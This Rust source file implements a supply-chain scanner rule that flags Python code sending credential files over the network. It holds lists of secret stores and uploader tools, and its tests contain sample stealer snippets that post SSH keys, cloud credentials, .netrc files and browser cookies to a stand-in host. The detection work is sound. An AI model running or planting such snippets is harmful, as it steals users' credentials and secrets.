//! `NET-002`: files with credentials leave over the network.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::{self, BESIDE};
use super::sent::{FAR, command_lines, hosts, is_foreign, sends, spaced, to_whom};
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Context, Flow, Label, Module};

/// The rule.
pub(super) struct CredentialFilesSent;

impl Rule for CredentialFilesSent {
    fn id(&self) -> &'static str {
        "NET-002"
    }

    fn severity(&self) -> Severity {
        Severity::Critical
    }

    fn title(&self) -> &'static str {
        "files with credentials are sent over the network"
    }

    fn manual(&self) -> &'static str {
        "A file that holds credentials reaches something that sends over the network, or \
         is named in a command that uploads: keys of SSH and clouds, `.netrc`, `.pypirc`, \
         browser profiles, wallets, keychains.\n\n\
         This is what stealers do. No library has a reason to send such a file anywhere.\n\n\
         Mistaken for it: a client that logs in with what `.netrc` or a keyring says, in \
         a header. That is information."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            if flow.label != Label::SecretFile || !sends(flow.kind) {
                continue;
            }
            let worst = match () {
                () if is_login(flow) => Severity::Info,
                () if flow.hops > FAR || is_own_repository(flow) => Severity::Medium,
                () => Severity::Critical,
            };
            let severity = match worst > Severity::Medium && goes_abroad(analysis, flow) {
                true => even_if_asked(worst, flow.context),
                false => in_context(worst, flow.context),
            };
            let confidence = Confidence::of(95).in_context(flow.context);
            let sink = analysis.sink(flow);
            let message = format!("{} sends {}{}", sink.target, flow.what, to_whom(sink));
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        let personal = |flow: &&Flow| is_personal(flow) && !goes_back(analysis, flow);
        for flow in analysis.flows.iter().filter(personal) {
            let severity = in_context(Severity::High, flow.context);
            let confidence = Confidence::of(90).in_context(flow.context);
            let sink = analysis.sink(flow);
            let message = format!("{} sends {}{}", sink.target, flow.what, to_whom(sink));
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in analysis.calls().filter(|call| call.context.is_unasked()) {
            let lines = command_lines(call);
            let message = match () {
                () if lines.iter().any(|line| takes(line)) => "takes credentials",
                () if lines.iter().any(|line| uploads_file(line)) => "uploads files",
                () => continue,
            };
            let severity = in_context(Severity::High, call.context);
            let confidence = Confidence::of(85).in_context(call.context);
            let message = format!("{} starts a command that {message}", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
        for call in analysis.calls() {
            if !command_lines(call).iter().any(|line| uploads(line)) {
                continue;
            }
            let severity = in_context(Severity::Critical, call.context);
            let confidence = Confidence::of(90).in_context(call.context);
            let message = format!("{} starts a command that uploads credentials", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
        for call in beside::named_and_sent(analysis, names_stores) {
            let is_told = observations.iter().any(|seen| seen.rule == self.id());
            if !is_told {
                let severity = even_if_asked(Severity::High, call.context);
                let message = format!(
                    "{} sends something where stores of secrets are named",
                    call.target
                );
                observations.push(observe_call(self, call, (severity, BESIDE), message));
            }
        }
        for call in beside::held_and_sent(analysis).into_iter() {
            let is_told = observations.iter().any(|seen| seen.rule == self.id());
            if !is_told {
                let severity = in_context(Severity::High, call.context);
                let message = format!("{} sends something where secrets are read", call.target);
                observations.push(observe_call(self, call, (severity, BESIDE), message));
            }
        }
    }
}

/// Files and questions by which programs of others keep what they log in with.
const STORES: &[&str] = &[
    "Login Data",
    "Local State",
    "key4.db",
    "logins.json",
    "cookies.sqlite",
    "leveldb",
    "tdata",
    "wallet.dat",
    "login.keychain",
    "/etc/shadow",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    "Network.getAllCookies",
    "Storage.getCookies",
    "find-generic-password",
];

/// Whether the module names a store of secrets, other than in prose.
fn names_stores(module: &Module) -> bool {
    let mut texts = module.literals.iter().map(|literal| &*literal.text);
    texts.any(|text| text.len() < 200 && STORES.iter().any(|store| text.contains(store)))
}

/// Whether what a service keeps for itself below the home folder goes back to the service.
fn goes_back(analysis: &Analysis, flow: &Flow) -> bool {
    let path = flow.what.to_ascii_lowercase();
    let is_own = |host: &&str| {
        let host = host.to_ascii_lowercase();
        let mut words = path.split(|each: char| !each.is_alphanumeric());
        words.any(|word| word.len() >= 5 && host.contains(word))
    };
    let hosts = hosts(analysis.sink(flow));
    !hosts.is_empty() && hosts.iter().all(is_own)
}

/// Whether the address that a flow ends at stands in the code and is somebody else's.
fn goes_abroad(analysis: &Analysis, flow: &Flow) -> bool {
    let sink = analysis.sink(flow);
    let here = &analysis.modules[flow.module];
    let is_connection = ["ftplib.", "smtplib.", "http.client.", "socket.socket()"]
        .iter()
        .any(|start| sink.target.starts_with(start));
    hosts(sink).iter().any(|host| is_foreign(host)) && !goes_back(analysis, flow)
        || is_connection && here.calls.iter().any(beside::is_abroad)
}

/// Whether somebody's own files leave where nobody asked for anything: what is below the home folder, or
/// whatever walking through the whole disk finds.
fn is_personal(flow: &Flow) -> bool {
    let is_below = ["~/", "/home/", "/Users/", "/\u{2026}"]
        .iter()
        .any(|start| flow.what.starts_with(start));
    flow.label == Label::File
        && sends(flow.kind)
        && flow.context.is_unasked()
        && flow.hops <= FAR
        && is_below
}

/// Programs that read files or pack them up.
const PACKERS: &[&str] = &[
    " cat ",
    " tar ",
    " zip ",
    " 7z ",
    " cp ",
    " base64 ",
    " xxd ",
    " type ",
    " robocopy ",
    " xcopy ",
    " dd ",
    " gzip ",
    " strings ",
    " head ",
    " tail ",
    " grep ",
];

/// Whether a command reads or packs up what holds credentials.
fn takes(command: &str) -> bool {
    let line = spaced(command);
    let is_place = |part: &&str| {
        line.contains(*part) || line.contains(&part.trim_end_matches('/').replace('/', "\\"))
    };
    let places = CREDENTIALS
        .iter()
        .filter(|part| !part.contains("netrc"))
        .chain(FOLDERS);
    PACKERS.iter().any(|word| line.contains(word))
        && places.filter(|part| is_place(part)).count() > 0
        && !line.contains("known_hosts")
        && !line.contains("authorized_keys")
}

/// Folders of credentials, as commands name them.
const FOLDERS: &[&str] = &[
    "/.ssh ",
    "/.aws ",
    "/.gnupg ",
    "/.kube ",
    "/.config/gcloud",
    "/.azure ",
    "key4.db",
];

/// Whether a command sends a file to an address.
fn uploads_file(command: &str) -> bool {
    let line = spaced(command);
    let names = |options: &[&str]| options.iter().any(|option| line.contains(option));
    let by_curl = line.contains(" curl ")
        && names(&[
            " --upload-file ",
            " -t ",
            " -f ",
            " --form ",
            " --data-binary @",
            " -d @",
            " --data @",
        ])
        && (line.contains('@') || names(&[" --upload-file ", " -t "]));
    let by_wget = line.contains(" wget ") && names(&["--post-file", "--body-file"]);
    (by_curl || by_wget) && line.contains("://")
}

/// Files and services that exist to be logged in with.
const LOGINS: &[&str] = &[
    "netrc",
    "keyring",
    "token",
    ".pypirc",
    ".npmrc",
    ".env",
    "credentials",
    "kube",
    "gh/hosts",
    "dotenv",
];

fn is_login(flow: &Flow) -> bool {
    let is_header = matches!(&*flow.argument, "headers" | "auth" | "cookies" | "cert");
    let is_for_logins = LOGINS.iter().any(|part| flow.what.contains(part));
    is_header
        && is_for_logins
        && (flow.context <= Context::Entry || flow.what.starts_with("keyring"))
}

/// Whether a program that somebody starts asks where the repository it works on comes from. What runs
/// unasked has no repository to ask about.
fn is_own_repository(flow: &Flow) -> bool {
    &*flow.what == ".git/config" && !flow.context.is_unasked()
}

const UPLOADERS: &[&str] = &[
    " curl ",
    " wget ",
    " nc ",
    " ncat ",
    " scp ",
    " rsync ",
    " ftp ",
    " invoke-webrequest ",
    " socat ",
];
const CREDENTIALS: &[&str] = &[
    "/.ssh/",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    ".kube/config",
    ".netrc",
    ".pypirc",
    ".npmrc",
    ".docker/config",
    ".git-credentials",
    "/etc/shadow",
    ".gnupg",
    "wallet.dat",
    "login data",
    "key4.db",
    "login.keychain",
    ".vault-token",
    ".pgpass",
];

fn uploads(command: &str) -> bool {
    let line = spaced(command);
    // `ssh-keyscan … >> ~/.ssh/known_hosts` and a key to log in with are not uploads of the key.
    let names = |part: &str| line.contains(part) && !line.contains(&format!("-i {part}"));
    let gives = [
        "@",
        "<",
        " scp ",
        " rsync ",
        "--data",
        " -d ",
        " -t ",
        "--post-file",
        "|",
        "-infile",
        "$(",
    ];
    UPLOADERS.iter().any(|word| line.contains(word))
        && CREDENTIALS.iter().any(|part| names(part))
        && gives.iter().any(|way| line.contains(way))
        && !line.contains("known_hosts")
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn files_with_credentials_are_followed_to_the_network() {
        for (path, code) in [
            (
                "setup.py",
                "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://drop.invalid', data=k)",
            ),
            (
                "demo/__init__.py",
                "from pathlib import Path as P\nimport urllib.request as u\nu.urlopen('https://drop.invalid', data=(P.home() / '.aws' / 'credentials').read_bytes())",
            ),
            (
                "demo/__init__.py",
                "import socket, os\ns = socket.socket()\ns.connect(('drop.invalid', 1))\nfor n in ['.netrc', '.pypirc']:\n    with open(os.path.join(os.path.expanduser('~'), n), 'rb') as f:\n        s.sendall(f.read())",
            ),
            (
                "demo.pth",
                "import os, requests; requests.post('https://drop.invalid', files={'f': open(os.path.expanduser('~/.kube/config'), 'rb')})",
            ),
            (
                "setup.py",
                "import os\nos.system('curl -F f=@$HOME/.ssh/id_rsa https://drop.invalid')",
            ),
            (
                "setup.py",
                "import browser_cookie3 as b, requests\nrequests.post('https://drop.invalid', data=str(list(b.chrome())))",
            ),
            (
                "demo/__init__.py",
                "import urllib.request\nurllib.request.urlopen('https://drop.invalid', data=open('.git/config', 'rb').read())",
            ),
        ] {
            found("NET-002", path, code);
        }
    }

    #[test]
    fn reading_them_or_logging_in_with_them_is_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            ),
            (
                "demo/__init__.py",
                "import keyring, requests\ndef ask():\n    return requests.get('https://api.invalid', headers={'Authorization': keyring.get_password('a', 'b')})",
            ),
            (
                "setup.py",
                "import os\nos.system('curl -o a.tgz https://files.invalid/a.tgz')",
            ),
            (
                "demo/issues.py",
                "import configparser, urllib.request\nif __name__ == '__main__':\n    c = configparser.ConfigParser()\n    c.read('.git/config')\n    urllib.request.urlopen('https://issues.invalid/' + c.get('remote', 'url'))",
            ),
        ] {
            quiet("NET-002", path, code);
        }
    }
}
